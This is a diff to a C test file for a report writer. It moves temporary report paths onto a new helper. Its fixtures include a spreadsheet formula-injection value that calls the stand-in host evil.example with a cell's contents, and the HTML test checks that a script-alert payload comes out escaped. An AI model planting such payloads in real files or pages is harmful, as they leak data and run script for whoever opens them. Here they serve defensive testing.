@@ -24,6 +24,7 @@
 #include "core/util.h"
 #include "ingest/ingest_expect.h"
 #include "report/report.h"
+#include "tmpdir.h"
 
 static const char *const hostile_ids[] = {
     "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
@@ -87,8 +88,8 @@ static char *slurp(const char *path, size_t *n)
 static void test_json(void **state)
 {
     fk_report *r = make_report();
-    char path[] = "/tmp/fk_report_XXXXXX";
-    close(mkstemp(path));
+    char path[FK_TMP_PATH];
+    close(mkstemp(fk_tmp_template(path, sizeof(path), "fk_report_XXXXXX")));
     write_to(r, FK_REPORT_JSON, path, false, 0);
     json_error_t jerr;
     json_t *root = json_load_file(path, 0, &jerr);
@@ -148,11 +149,11 @@ static void parse_csv(const char *text, size_t n, char delim, csv_rows *rows)
 static void test_csv(void **state)
 {
     fk_report *r = make_report();
-    char path[] = "/tmp/fk_report_XXXXXX";
+    char path[FK_TMP_PATH];
     size_t n;
     csv_rows *rows = malloc(sizeof(*rows));
 
-    close(mkstemp(path));
+    close(mkstemp(fk_tmp_template(path, sizeof(path), "fk_report_XXXXXX")));
     write_to(r, FK_REPORT_CSV, path, false, 0);
     char *text = slurp(path, &n);
     parse_csv(text, n, ',', rows);
@@ -190,8 +191,8 @@ static void test_csv(void **state)
 static void test_html(void **state)
 {
     fk_report *r = make_report();
-    char path[] = "/tmp/fk_report_XXXXXX";
-    close(mkstemp(path));
+    char path[FK_TMP_PATH];
+    close(mkstemp(fk_tmp_template(path, sizeof(path), "fk_report_XXXXXX")));
     write_to(r, FK_REPORT_HTML, path, false, 0);
     char *html = slurp(path, NULL);
     assert_non_null(strstr(html, "&lt;script&gt;alert(1)&lt;/script&gt;"));
@@ -214,8 +215,8 @@ static void test_html(void **state)
 static void test_junit(void **state)
 {
     fk_report *r = make_report();
-    char path[] = "/tmp/fk_report_XXXXXX", xsd[1024];
-    close(mkstemp(path));
+    char path[FK_TMP_PATH], xsd[1024];
+    close(mkstemp(fk_tmp_template(path, sizeof(path), "fk_report_XXXXXX")));
     write_to(r, FK_REPORT_JUNIT, path, false, 0);
 
     snprintf(xsd, sizeof(xsd), "%s/tests/data/junit.xsd", getenv("FK_SRCDIR"));
@@ -255,8 +256,8 @@ static void test_mismatch(void **state)
     fk_report_add_recorded(r, "EUR", 9999); /* the database disagrees by one cent */
     fk_report_summary(r, &s);
     assert_false(s.reconciled);
-    char path[] = "/tmp/fk_report_XXXXXX";
-    close(mkstemp(path));
+    char path[FK_TMP_PATH];
+    close(mkstemp(fk_tmp_template(path, sizeof(path), "fk_report_XXXXXX")));
     write_to(r, FK_REPORT_HTML, path, false, 0);
     char *html = slurp(path, NULL);
     assert_non_null(strstr(html, "MISMATCH"));
@@ -435,8 +436,8 @@ static fk_report *make_unsafe_report(void)
 static void test_unsafe_text(void **state)
 {
     fk_report *r = make_unsafe_report();
-    char path[] = "/tmp/fk_report_XXXXXX", xsd[1024];
-    close(mkstemp(path));
+    char path[FK_TMP_PATH], xsd[1024];
+    close(mkstemp(fk_tmp_template(path, sizeof(path), "fk_report_XXXXXX")));
 
     write_to(r, FK_REPORT_JUNIT, path, false, 0);
     char *xml = slurp(path, NULL);
@@ -493,7 +494,8 @@ static void test_unsafe_text(void **state)
 static void test_write_errors(void **state)
 {
     fk_report *r = make_report();
-    char dir[] = "/tmp/fk_report_XXXXXX", path[256];
+    char dir[FK_TMP_PATH], path[FK_TMP_PATH + 32];
+    fk_tmp_template(dir, sizeof(dir), "fk_report_XXXXXX");
     assert_non_null(mkdtemp(dir));
 
     /* A directory that does not exist: the temporary file beside the report fails. */
@@ -563,10 +565,10 @@ static void write_file(const char *path, const char *text)
  * row is shorter than the header), short rows skipped, broken CSV named with its row. */
 static void test_expect_read(void **state)
 {
-    char path[] = "/tmp/fk_expect_XXXXXX";
+    char path[FK_TMP_PATH];
     fk_expect_rows rows;
     fk_error err = FK_ERROR_INIT;
-    close(mkstemp(path));
+    close(mkstemp(fk_tmp_template(path, sizeof(path), "fk_expect_XXXXXX")));
 
     write_file(path, "\xEF\xBB\xBF" "Codes,status,ORDER_ID\n"
                      "TAX_ID_CHECKSUM;B,failed, SO-1 \n"
